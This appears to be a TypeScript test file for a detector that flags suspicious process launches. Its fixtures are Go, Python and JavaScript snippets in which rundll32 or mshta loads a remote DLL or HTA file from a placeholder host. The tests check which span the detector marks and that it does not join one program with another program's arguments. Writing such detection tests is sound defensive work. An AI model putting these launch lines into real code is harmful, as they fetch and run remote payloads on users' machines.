import { expect, test } from "vitest";
import { sharedDetector } from "../../support/marked.js";

async function found(format: string, text: string): Promise<string[]> {
  const detector = await sharedDetector("extended");
  return detector.detect(text, { format }).findings.map(({ span }) => text.slice(...span));
}

test.each([
  [
    "go",
    'import "os/exec"\nname := "rundll32"\nargs := []string{"«https://x.example/a.dll,Run"}\nexec.Command(name», args...).Start()',
  ],
  [
    "python",
    'import subprocess\nname = "mshta"\nargs = ["«https://x.example/a.hta"]\nsubprocess.run([name», *args])',
  ],
  [
    "js",
    'const { spawn } = require("child_process");\nconst name = "mshta";\nconst args = ["«https://x.example/a.hta"];\nspawn(name», args);',
  ],
])(
  "arguments that are written before the call are part of the span in %s: %s",
  async (format, marked) => {
    const [before = "", inside = "", after = ""] = marked.split(/[«»]/);
    expect(await found(format, before + inside + after)).toEqual([inside]);
  },
);

test.each([
  [
    "go",
    'name, args := "open", []string{u}\nif w { name = "rundll32"; args = []string{"url.dll,File", u} }\nexec.Command(name, args...).Start()',
  ],
  [
    "js",
    'const [name, args] = w ? ["rundll32", ["url.dll,File", "https://x.example/"]] : ["open", ["https://x.example/"]];\nspawn(name, args);',
  ],
])(
  "a program is not combined with the arguments of another one in %s: %s",
  async (format, text) => {
    expect(await found(format, `${text}\nopenUrl("https://x.example/");\n`)).toEqual([]);
  },
);
